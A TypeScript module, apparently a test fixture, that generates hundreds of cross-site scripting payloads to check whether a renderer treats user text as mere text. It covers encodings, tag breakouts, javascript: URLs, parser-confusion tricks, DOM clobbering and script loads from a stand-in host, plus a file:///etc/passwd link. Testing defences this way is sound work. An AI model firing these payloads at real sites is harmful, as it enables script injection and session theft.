/** What a payload does when it runs: tests watch for it. */
const CODE = '__pwned=1';
/** Where a payload sends requests; the name resolves nowhere. */
const ELSEWHERE = 'xss.invalid';

/** Elements that run something by themselves; `@` stands before the code. */
const RUNNING = [
  '<img src=x onerror=@>',
  '<svg onload=@>',
  '<body onload=@>',
  '<iframe onload=@>',
  '<input autofocus onfocus=@>',
  '<textarea autofocus onfocus=@>',
  '<details open ontoggle=@>',
  '<video><source onerror=@></video>',
  '<audio src=x onerror=@>',
  '<object data=x onerror=@>',
  '<style onload=@></style>',
  '<marquee onstart=@>',
  '<svg><animate onbegin=@ attributeName=x>',
  '<xss tabindex=0 autofocus onfocus=@>x</xss>',
  '<button popovertarget=panel onbeforetoggle=@>',
  `<link rel=stylesheet href=//${ELSEWHERE}/ onerror=@>`,
  '<script>@</script>',
  `<script src=//${ELSEWHERE}/@></script>`,
];

/** Ways to write the same element. */
const SPELLINGS: ((markup: string) => string)[] = [
  (markup) => markup.replaceAll('@', CODE),
  (markup) => markup.replaceAll('@', `"${CODE}"`),
  (markup) => markup.replaceAll('@', `'${CODE}'`).replace(/<(\w+)/, (tag) => tag.toUpperCase()),
  (markup) => markup.replaceAll(' ', '/').replaceAll('@', CODE),
  (markup) => markup.replaceAll(' ', '\n').replaceAll('@', `\`${CODE}\``),
  (markup) => markup.replaceAll('@', CODE.replace('_', '&#95;')).replace(/>$/, ' x'),
  (markup) => markup.replaceAll('@', CODE).replace('<', '<\0'),
];

/** Ways to write `<` that something may decode once too often. */
const ENCODINGS: ((markup: string) => string)[] = [
  (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (markup) => markup.replaceAll('<', '&#60;'),
  (markup) => markup.replaceAll('<', '&#x3c'),
  (markup) => markup.replaceAll('<', '\\u003c'),
  (markup) => encodeURIComponent(markup),
  (markup) => markup.replaceAll('<', '&amp;lt;'),
  (markup) => markup.replaceAll('<', '＜'),
];

/** What may stand around a value, and how it is left. */
const BREAKOUTS = [
  ...['">', "'>", '`>', '-->', ']]>', '" ', "' "],
  ...['textarea', 'title', 'style', 'script', 'template', 'noscript', 'pilcrow-chat', 'details'].map(
    (tag) => `</${tag}>`,
  ),
];
const AFTER_BREAKOUT = [RUNNING[0]!, RUNNING[1]!, RUNNING[16]!, 'onmouseover=@ x="', 'autofocus onfocus=@ y='];

/** Addresses that run code or lead elsewhere. */
const ADDRESSES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `java\tscript:${CODE}`,
  `java&Tab;script:${CODE}`,
  `\u0001javascript:${CODE}`,
  `&#106;avascript:${CODE}`,
  `&#x6A;avascript&colon;${CODE}`,
  `javascript%3A${CODE}`,
  `javascript://%0A${CODE}`,
  `vbscript:${CODE}`,
  `data:text/html,<script>parent.${CODE}</script>`,
  `data:text/html;base64,${btoa(`<script>parent.${CODE}</script>`)}`,
  'data:image/svg+xml,<svg/onload=parent.__pwned=1>',
  `feed:javascript:${CODE}`,
  'file:///etc/passwd',
  'blob:https://x/y',
];

/** What takes an address, in HTML and in Markdown. */
const LINKS: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "title")`,
  (address) => `<${address}>`,
  (address) => `![x](${address})`,
  (address) => `[x]: ${address}\n\n[x]`,
  (address) => `[![x](${address})](${address})`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<base href="${address}"><meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<math href="${address}"><mtext>x</mtext></math>`,
];

/** Where parsers disagree about what is an element: namespaces, raw text, comments, Markdown's own HTML. */
const CONFUSIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>',
  '<svg></p><style><a id="</style><img src=1 onerror=@>">',
  '<svg><foreignObject><iframe onload=@></foreignObject></svg>',
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<template shadowrootmode=open><img src=x onerror=@></template>',
  '<select><template><img src=x onerror=@></template></select>',
  '<!--><img src=x onerror=@>-->',
  '<![CDATA[><img src=x onerror=@>]]>',
  '<?xml version="1.0"?><img src=x onerror=@>',
  '<plaintext><img src=x onerror=@>',
  '<isindex type=image src=x onerror=@>',
  '`<img src=x onerror=@>` <img src=x onerror=@>',
  '    <img src=x onerror=@>\n\n<img src=x onerror=@>',
  '> <img src=x\n> onerror=@>',
  '```html onload=@>\n<img src=x onerror=@>\n```',
  '~~~"><img src=x onerror=@>\n~~~',
  '<div markdown=1>\n\n<img src=x onerror=@>\n\n</div>',
  '[a]: <javascript:@> "\\"onmouseover=@"\n\n[<img src=x onerror=@>][a]',
  '[citation 1][1] [1](javascript:@) [[1]](javascript:@)',
  '&lt;img src=x onerror=@&gt;&NewLine;<b onmouseover=@>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */onerror=@ )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=@//>\\x3e',
  '\'">><marquee><img src=x onerror=@></marquee>"></plaintext\\></|\\><plaintext/onmouseover=@>',
  "';@;//\\';@;//\";@;//--></SCRIPT>\">'><SCRIPT>@</SCRIPT>",
  "{{constructor.constructor('@')()}}",
  "{{$on.constructor('@')()}}",
  '<%= @ %>#{@}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to mean itself
  '${@}',
];

/** Names that hide those of the page, of forms and of objects. */
const CLOBBERING = [
  ...['panel', 'chat', 'find', 'text', 'attributes', 'getElementById', 'body', 'currentScript'].flatMap((name) => [
    `<form id=${name}><input name=${name}><input name=attributes></form>`,
    `<a id=${name}></a><a id=${name} name=href href=//${ELSEWHERE}/></a>`,
    `<img name=${name}>`,
  ]),
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '$&',
    '$`',
    "$'",
    '\\',
    '%',
    '%00',
    '%c0%ae',
    '../../x',
  ],
];

/** Texts that are harmless as code and hard to set. */
const UNRULY = [
  'о'.repeat(1900),
  `${'длинноеслово'.repeat(150)}.`,
  'W'.repeat(1900),
  `a${'\u0301'.repeat(10_000)}`,
  `${'a\u0301\u0316'.repeat(600)}`,
  '\u202eэтот текст идёт назад\u202d \u2067и этот',
  '\u2066'.repeat(500),
  '\u200b\u200c\u200d\u2060\ufeff'.repeat(300),
  '\u00ad'.repeat(1000),
  '\ud800 \udfff',
  '\u2028\u2029\u0085\u000b\u000c',
  '\0\u0001\u0008\u001b[31m',
  'مرحبا '.repeat(200),
  '﷽'.repeat(100),
  '𒐫'.repeat(200),
  '👩‍👩‍👧‍👦'.repeat(100),
  ' \u00a0\u3000 '.repeat(300),
  '\n'.repeat(500),
  `${'> '.repeat(400)}x`,
  `${'- '.repeat(300)}x`,
  `${'['.repeat(900)}${']'.repeat(900)}`,
  '*_'.repeat(900),
  `${'`'.repeat(800)}x`,
  `| a |\n|---|\n${'| b |\n'.repeat(200)}`,
  `${'1. x\n   '.repeat(100)}`,
  '999999999. x',
];

/**
 * More than 500 texts that run `__pwned=1`, reach `xss.invalid`, add an element or break the layout wherever they are taken for more
 * than text. Generated: everything that runs, in all spellings and encodings, behind every breakout; every address in every link.
 */
export function xssPayloads(): string[] {
  const running = RUNNING.flatMap((markup) => SPELLINGS.map((spell) => spell(markup)));
  const encoded = RUNNING.slice(0, 10).flatMap((markup) =>
    ENCODINGS.map((encode) => encode(markup.replaceAll('@', CODE))),
  );
  const brokenOut = BREAKOUTS.flatMap((breakout) =>
    AFTER_BREAKOUT.map((markup) => breakout + markup.replaceAll('@', CODE)),
  );
  const linked = ADDRESSES.flatMap((address) => LINKS.map((link) => link(address)));
  const confused = CONFUSIONS.map((markup) => markup.replaceAll('@', CODE));
  return [...new Set([...running, ...encoded, ...brokenOut, ...linked, ...confused, ...CLOBBERING, ...UNRULY])];
}
